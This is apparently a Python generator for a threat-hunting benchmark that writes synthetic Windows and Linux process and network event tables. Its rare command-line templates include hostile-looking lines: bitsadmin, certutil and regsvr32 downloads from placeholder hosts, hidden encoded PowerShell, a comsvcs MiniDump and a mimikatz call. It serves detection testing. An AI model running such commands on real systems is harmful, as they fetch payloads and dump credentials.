"""Makes the two tables of the benchmark: process starts and network connections of an invented company over 30 days.

Everything comes from one seed, so the same arguments give the same rows. Times are unique and ascending, row groups have
524,288 rows, zstd level 3: what a store of events writes. About half of the command lines are seen again and again, the
rest are unique; what hunters look for is rare. The rare lines are written so that they do nothing.
"""

import argparse
import os

import numpy as np
import pyarrow as pa
import pyarrow.compute as pc
import pyarrow.parquet as pq

START = np.datetime64("2026-09-01T00:00:00", "us").astype(np.int64)
DAYS = 30
SPAN = DAYS * 24 * 3600 * 1_000_000
SLICE = 1_000_000
ROW_GROUP = 524_288
DEVICES = 5_000
POOL = 150_000
HASHES = 40_000
ADDRESSES = 60_000

HEX = np.frombuffer(b"0123456789abcdef", dtype=np.uint8)
LETTERS = np.frombuffer(b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/", dtype=np.uint8)


def texts(rng, rows, length, alphabet=HEX):
    """Random texts of one length, made as Arrow holds them: no Python object per row."""
    data = alphabet[rng.integers(0, len(alphabet), rows * length, dtype=np.uint8)]
    offsets = np.arange(rows + 1, dtype=np.int32) * length
    return pa.StringArray.from_buffers(rows, pa.py_buffer(offsets), pa.py_buffer(data))


def numbers(rng, rows, low, high):
    return pa.array(rng.integers(low, high, rows)).cast(pa.string())


def chosen(index, values):
    """values[index] as texts."""
    return pa.array(values, pa.string()).take(pa.array(index))


def joined(*parts):
    return pc.binary_join_element_wise(*parts, "")


def guid(rng, rows):
    pieces = [texts(rng, rows, n) for n in (8, 4, 4, 4, 12)]
    return pc.binary_join_element_wise(*pieces, "-")


def host(rng, rows):
    first = ["mail", "cdn", "files", "login", "update", "intranet", "static", "api"]
    last = ["fabrikam.example", "northwind.example", "adatum.example", "tailspin.example"]
    return joined(
        chosen(rng.integers(0, len(first), rows), first), numbers(rng, rows, 1, 400), ".",
        chosen(rng.integers(0, len(last), rows), last),
    )


# What stands between bars in a command line is made anew for every row.
MAKERS = {
    "guid": guid,
    "host": host,
    "n2": lambda rng, rows: numbers(rng, rows, 10, 99),
    "n5": lambda rng, rows: numbers(rng, rows, 10_000, 99_999),
    "x6": lambda rng, rows: texts(rng, rows, 6),
    "x16": lambda rng, rows: texts(rng, rows, 16),
    "x40": lambda rng, rows: texts(rng, rows, 40),
    "b200": lambda rng, rows: texts(rng, rows, 200, LETTERS),
}

SYSTEM = r"C:\Windows\System32"
# weight, file, folder, parent, company, command line
PROGRAMS = [
    (150, "svchost.exe", SYSTEM, "services.exe", "Microsoft Corporation", r"C:\Windows\System32\svchost.exe -k netsvcs -p -s |x6| -instance |guid|"),
    (120, "msedge.exe", r"C:\Program Files (x86)\Microsoft\Edge\Application", "explorer.exe", "Microsoft Corporation", r'"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --type=renderer --lang=en-GB --field-trial-handle=|n5|,i,|x16|,262144 --renderer-client-id=|n5| --mojo-platform-channel-handle=|n5| /prefetch:1'),
    (95, "chrome.exe", r"C:\Program Files\Google\Chrome\Application", "explorer.exe", "Google LLC", r'"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-GB --service-sandbox-type=none --field-trial-handle=|n5|,|x16| /prefetch:8'),
    (80, "conhost.exe", SYSTEM, "cmd.exe", "Microsoft Corporation", r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1"),
    (70, "cmd.exe", SYSTEM, "explorer.exe", "Microsoft Corporation", r'C:\Windows\System32\cmd.exe /d /c "C:\Program Files\Inventory\agent\collect.cmd" --job |guid| --out C:\ProgramData\Inventory\|x6|.csv'),
    (55, "powershell.exe", SYSTEM + r"\WindowsPowerShell\v1.0", "agentsvc.exe", "Microsoft Corporation", r"powershell.exe -NoProfile -ExecutionPolicy RemoteSigned -File C:\ProgramData\Inventory\scripts\Report-|x6|.ps1 -Session |guid| -Server https://|host|/report"),
    (50, "backgroundTaskHost.exe", SYSTEM, "svchost.exe", "Microsoft Corporation", r'"C:\Windows\system32\backgroundTaskHost.exe" -ServerName:App.AppX|x16|.mca'),
    (45, "Teams.exe", r"C:\Program Files\WindowsApps\MSTeams", "explorer.exe", "Microsoft Corporation", r'"C:\Program Files\WindowsApps\MSTeams\Teams.exe" --type=gpu-process --gpu-preferences=|b200| --mojo-platform-channel-handle=|n5|'),
    (40, "OUTLOOK.EXE", r"C:\Program Files\Microsoft Office\root\Office16", "explorer.exe", "Microsoft Corporation", r'"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE" /profile |x6| /recycle'),
    (30, "wmiprvse.exe", SYSTEM + r"\wbem", "svchost.exe", "Microsoft Corporation", r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding"),
    (28, "rundll32.exe", SYSTEM, "svchost.exe", "Microsoft Corporation", r"C:\Windows\system32\rundll32.exe C:\Windows\system32\Windows.Storage.ApplicationData.dll,CleanupTemporaryState |x6|"),
    (26, "git.exe", r"C:\Program Files\Git\cmd", "Code.exe", "The Git Development Community", r"git.exe -c core.quotepath=false for-each-ref --sort -committerdate --format %(refname)%00%(objectname) refs/heads/|x6| |x40|"),
    (24, "node.exe", r"C:\Program Files\nodejs", "cmd.exe", "Node.js", r'"C:\Program Files\nodejs\node.exe" C:\src\shop\node_modules\.bin\vite build --mode production --outDir C:\src\shop\dist-|x6|'),
    (20, "bash", "/usr/bin", "sshd", "", "bash -lc cd /srv/releases/|x16| && ./health --port |n5| --token-file /run/secrets/|x6|"),
    (14, "python3", "/usr/bin", "cron", "", "/usr/bin/python3 /opt/etl/load.py --date 2026-09-|n2| --batch |guid| --source s3://warehouse/|x16|/part-|n5|.parquet"),
    (10, "schtasks.exe", SYSTEM, "cmd.exe", "Microsoft Corporation", r"schtasks.exe /query /tn \Inventory\|x6| /fo LIST /v"),
    (2, "certutil.exe", SYSTEM, "svchost.exe", "Microsoft Corporation", "certutil.exe -verifystore Root |x40|"),
    (1.5, "powershell.exe", SYSTEM + r"\WindowsPowerShell\v1.0", "WINWORD.EXE", "Microsoft Corporation", "powershell.exe -w hidden -EncodedCommand |b200|=="),
    (0.8, "bitsadmin.exe", SYSTEM, "cmd.exe", "Microsoft Corporation", r"bitsadmin.exe /transfer |x6| /download http://|host|/|x6|.bin C:\ProgramData\|x6|.bin"),
    (0.5, "regsvr32.exe", SYSTEM, "EXCEL.EXE", "Microsoft Corporation", r"regsvr32.exe /s /n /u /i:http://|host|/|x6|.sct scrobj.dll"),
    (0.3, "certutil.exe", SYSTEM, "cmd.exe", "Microsoft Corporation", r"certutil.exe -urlcache -f http://|host|/|x6|.txt C:\Users\Public\|x6|.txt"),
    (0.06, "rundll32.exe", SYSTEM, "cmd.exe", "Microsoft Corporation", r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump |n5| C:\Temp\|x6|.dmp full"),
    (0.02, "vssadmin.exe", SYSTEM, "cmd.exe", "Microsoft Corporation", "vssadmin.exe list shadows /for=C:"),
    (0.003, "tool.exe", r"C:\Users\Public", "cmd.exe", "", r'C:\Users\Public\tool.exe "sekurlsa::minidump" mimikatz-|n5|.log exit'),
]
WEIGHTS = np.array([program[0] for program in PROGRAMS], dtype=float)
WEIGHTS /= WEIGHTS.sum()
FILES, FOLDERS, PARENTS, COMPANIES = ([program[i] for program in PROGRAMS] for i in (1, 2, 3, 4))
TAGS = ["initial-access", "execution", "persistence", "discovery", "collection", "signed", "unsigned", "rare", "common", "scripted", "elevated", "remote"]
USERS = [f"{name}.{family}" for family in ("ash", "birch", "cedar", "elm", "fir", "hazel", "larch", "maple", "oak", "pine") for name in ("ana", "ben", "chloe", "dev", "eve", "finn", "gus", "hana", "ines", "jon", "kim", "leo", "mia", "noor", "otto", "pia", "quin", "rosa", "sven", "tara")]
USERS = ["system", "local service", "network service", *USERS]


def command_lines(rng, programs):
    """A command line for each of an array of program numbers."""
    by_program = np.argsort(programs, kind="stable")
    counts = np.bincount(programs, minlength=len(PROGRAMS))
    made = []
    for program, rows in zip(PROGRAMS, counts):
        if rows == 0:
            continue
        parts = program[5].split("|")
        pieces = [MAKERS[part](rng, rows) if i % 2 else chosen(np.zeros(rows, np.int32), [part]) for i, part in enumerate(parts)]
        made.append(joined(*pieces) if len(pieces) > 1 else pieces[0])
    place = np.empty(len(programs), np.int64)
    place[by_program] = np.arange(len(programs))
    return pa.concat_arrays(made).take(pa.array(place))


class World:
    """What stays the same over all rows."""

    def __init__(self, rng):
        self.device_ids = texts(rng, DEVICES, 40)
        self.device_names = [f"{'lt' if i % 9 else 'sv'}{i:05d}.corp.example" for i in range(DEVICES)]
        share = 1.0 / np.arange(2, DEVICES + 2) ** 0.45
        self.device_steps = np.cumsum(share / share.sum())
        self.sha256, self.sha1, self.md5 = (texts(rng, HASHES, n) for n in (64, 40, 32))
        self.pool_programs = rng.choice(len(PROGRAMS), POOL, p=WEIGHTS)
        self.pool = command_lines(rng, self.pool_programs)
        self.addresses = pc.binary_join_element_wise(*[numbers(rng, ADDRESSES, 1, 255) for _ in range(4)], ".")

    def devices(self, rng, rows):
        return np.minimum(np.searchsorted(self.device_steps, rng.random(rows)), DEVICES - 1)

    def from_pool(self, rng, rows):
        return (POOL * rng.random(rows) ** 3).astype(np.int64)


def times(rng, rows, before, total):
    """Ascending and unique, spread over the slice's share of the span."""
    at = np.sort(rng.random(rows)) * (SPAN * rows / total) + SPAN * before / total
    order = np.arange(rows)
    return START + np.maximum.accumulate(at.astype(np.int64) - order) + order


def few(rng, rows, values, skew=2.0):
    return chosen((len(values) * rng.random(rows) ** skew).astype(np.int32), values)


def additional_fields(rng, rows, first):
    quoted = [f'"{tag}"' for tag in TAGS]
    picks = [chosen(rng.integers(0, len(TAGS), rows), quoted) for _ in range(3)]
    one, two = picks[0], joined(picks[0], ",", picks[1])
    tags = pc.choose(pa.array(rng.integers(0, 4, rows)), pa.array([""] * rows), one, two, joined(two, ",", picks[2]))
    return joined(
        '{"ProcessTokenType":"', few(rng, rows, ["Primary", "Impersonation"]),
        '","Signature":{"Signer":"', few(rng, rows, ["Microsoft Windows", "Google LLC", "Contoso IT", "none"], 1.0),
        '","IsTrusted":', few(rng, rows, ["true", "false"], 1.0), ',"Score":', numbers(rng, rows, 0, 100),
        '},"Tags":[', tags, '],"Sequence":', pa.array(first + np.arange(rows)).cast(pa.string()), "}",
    )


def processes(world, rng, rows, first, total):
    at = times(rng, rows, first, total)
    device = world.devices(rng, rows)
    pooled = rng.random(rows) < 0.5
    line = world.from_pool(rng, rows)
    program = np.where(pooled, world.pool_programs[line], rng.choice(len(PROGRAMS), rows, p=WEIGHTS))
    fresh = np.flatnonzero(~pooled)
    line[fresh] = POOL + np.arange(len(fresh))
    lines = pa.concat_arrays([world.pool, command_lines(rng, program[fresh])])
    parent_line = world.from_pool(rng, rows)
    parent_program = world.pool_programs[parent_line]
    user = (len(USERS) * rng.random(rows) ** 2).astype(np.int64)
    digest = (program * 1_600 + (1_600 * rng.random(rows) ** 8).astype(np.int64)) % HASHES
    stamp = lambda values: pa.array(values, pa.timestamp("us", tz="UTC"))
    file, folder = chosen(program, FILES), chosen(program, FOLDERS)
    return pa.table({
        "Timestamp": stamp(at),
        "DeviceId": world.device_ids.take(pa.array(device)),
        "DeviceName": chosen(device, world.device_names),
        "ActionType": chosen(np.zeros(rows, np.int32), ["ProcessCreated"]),
        "FileName": file,
        "FolderPath": joined(folder, "\\", file),
        "SHA1": world.sha1.take(pa.array(digest)),
        "SHA256": world.sha256.take(pa.array(digest)),
        "MD5": world.md5.take(pa.array(digest)),
        "FileSize": pa.array((digest * 7_877) % 12_000_000 + 8_192),
        "ProcessVersionInfoCompanyName": chosen(program, COMPANIES),
        "ProcessId": pa.array(rng.integers(400, 40_000, rows)),
        "ProcessCommandLine": lines.take(pa.array(line)),
        "ProcessIntegrityLevel": few(rng, rows, ["Medium", "System", "High", "Low"]),
        "ProcessTokenElevation": few(rng, rows, ["TokenElevationTypeDefault", "TokenElevationTypeLimited", "TokenElevationTypeFull"]),
        "ProcessCreationTime": stamp(at - rng.integers(0, 40_000, rows)),
        "AccountDomain": few(rng, rows, ["corp", "nt authority", "workgroup"]),
        "AccountName": chosen(user, USERS),
        "AccountSid": joined("S-1-5-21-1844237615-1708537768-839522115-", pa.array(user + 1_000).cast(pa.string())),
        "LogonId": pa.array(rng.integers(999, 90_000_000, rows)),
        "InitiatingProcessAccountName": chosen(user, USERS),
        "InitiatingProcessFileName": chosen(program, PARENTS),
        "InitiatingProcessCommandLine": world.pool.take(pa.array(parent_line)),
        "InitiatingProcessId": pa.array(rng.integers(400, 40_000, rows)),
        "InitiatingProcessParentFileName": chosen(parent_program, PARENTS),
        "InitiatingProcessSHA256": world.sha256.take(pa.array((parent_program * 1_600) % HASHES)),
        "InitiatingProcessCreationTime": stamp(at - rng.integers(0, 80_000_000_000, rows)),
        "ReportId": pa.array(first + np.arange(rows)),
        "AdditionalFields": additional_fields(rng, rows, first),
    })


def connections(world, rng, rows, first, total):
    device = world.devices(rng, rows)
    program = rng.choice(len(PROGRAMS), rows, p=WEIGHTS)
    named = pa.array(rng.random(rows) < 0.6)
    lines = world.pool.take(pa.array(world.from_pool(rng, rows)))
    return pa.table({
        "Timestamp": pa.array(times(rng, rows, first, total), pa.timestamp("us", tz="UTC")),
        "DeviceId": world.device_ids.take(pa.array(device)),
        "DeviceName": chosen(device, world.device_names),
        "ActionType": few(rng, rows, ["ConnectionSuccess", "ConnectionFailed", "DnsConnectionInspected", "ConnectionAttempt"], 1.2),
        "RemoteIP": world.addresses.take(pa.array((ADDRESSES * rng.random(rows) ** 3).astype(np.int64))),
        "RemotePort": pa.array(rng.choice([443, 80, 53, 445, 3389, 8443, 22, 5985], rows, p=[0.6, 0.13, 0.14, 0.06, 0.03, 0.02, 0.01, 0.01])),
        "RemoteUrl": pc.if_else(named, host(rng, rows), pa.scalar("")),
        "LocalIP": pc.binary_join_element_wise("10", pa.array(device // 200).cast(pa.string()), pa.array(device % 200).cast(pa.string()), "9", "."),
        "LocalPort": pa.array(rng.integers(1_025, 65_535, rows)),
        "Protocol": few(rng, rows, ["Tcp", "Udp"]),
        "InitiatingProcessFileName": chosen(program, FILES),
        "InitiatingProcessId": pa.array(rng.integers(400, 40_000, rows)),
        "InitiatingProcessCommandLine": lines,
        "InitiatingProcessAccountName": few(rng, rows, USERS),
        "ReportId": pa.array(first + np.arange(rows)),
    })


def write(path, rows, make):
    """Slice by slice, under another name until it is whole."""
    writer, done = None, 0
    while done < rows:
        part = make(min(SLICE, rows - done), done)
        if writer is None:
            writer = pq.ParquetWriter(path + ".part", part.schema, compression="zstd", compression_level=3, write_page_index=True)
        writer.write_table(part, row_group_size=ROW_GROUP)
        done += part.num_rows
        print(f"{os.path.basename(path)}: {done:,} rows", flush=True)
    writer.close()
    os.replace(path + ".part", path)


def main():
    options = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    options.add_argument("folder")
    options.add_argument("--rows", type=int, default=5_000_000, help="process starts; a quarter as many connections")
    options.add_argument("--seed", type=int, default=20_260_901)
    given = options.parse_args()
    os.makedirs(given.folder, exist_ok=True)
    # Slices are made one by one: fewer rows are not the first rows of more.
    rng = np.random.default_rng(given.seed)
    world = World(rng)
    for name, rows, make in (("DeviceProcessEvents", given.rows, processes), ("DeviceNetworkEvents", given.rows // 4, connections)):
        write(os.path.join(given.folder, name + ".parquet"), rows, lambda n, first, make=make, rows=rows: make(world, rng, n, first, rows))


if __name__ == "__main__":
    main()
